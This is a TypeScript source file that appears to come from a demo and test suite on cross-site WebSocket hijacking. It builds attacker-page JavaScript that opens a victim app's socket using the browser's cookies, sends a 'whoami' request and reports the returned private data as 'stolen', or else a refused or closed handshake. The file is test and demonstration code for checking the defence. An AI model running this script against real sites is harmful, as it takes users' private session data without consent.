/**
 * The hijacking attempt, as page JavaScript: open the victim app's socket (the browser adds
 * the victim's cookies by itself), ask for private data, and report what happened through
 * `report(outcome)`, once. The demo's attacker page and the browser test suite run this code.
 *
 * Outcomes:
 * - `{ stolen: data }`: the socket opened and answered with the victim's data;
 * - `{ refused: true, error, closeCode, wasClean }`: the handshake was refused. Browsers fire
 *   `error`, then `close` with 1006: the HTTP status of a refused handshake is never exposed
 *   to page scripts;
 * - `{ closedBeforeAnswer: true, closeCode, reason }`: the socket opened, then the app closed
 *   it (the chat closes sockets without a session with 4401).
 */
/** What `attack()` reports; the attacker page stores it in `window.attackOutcome`. */
export type AttackOutcome =
  | { readonly stolen: unknown }
  | {
      readonly refused: true;
      readonly error: boolean;
      readonly closeCode: number;
      readonly wasClean: boolean;
    }
  | { readonly closedBeforeAnswer: true; readonly closeCode: number; readonly reason: string };

export function attackScript(targetSocketUrl: string): string {
  return `
function attack(report) {
  const socket = new WebSocket(${JSON.stringify(targetSocketUrl)});
  let opened = false;
  let errored = false;
  let reported = false;
  const once = (outcome) => {
    if (reported) return;
    reported = true;
    report(outcome);
  };
  socket.onopen = () => {
    opened = true;
    socket.send(JSON.stringify({ event: 'whoami', data: null }));
  };
  socket.onerror = () => {
    errored = true;
  };
  socket.onmessage = (message) => {
    once({ stolen: JSON.parse(message.data).data });
    socket.close();
  };
  socket.onclose = (event) => {
    if (!opened) once({ refused: true, error: errored, closeCode: event.code, wasClean: event.wasClean });
    else once({ closedBeforeAnswer: true, closeCode: event.code, reason: event.reason });
  };
}`;
}
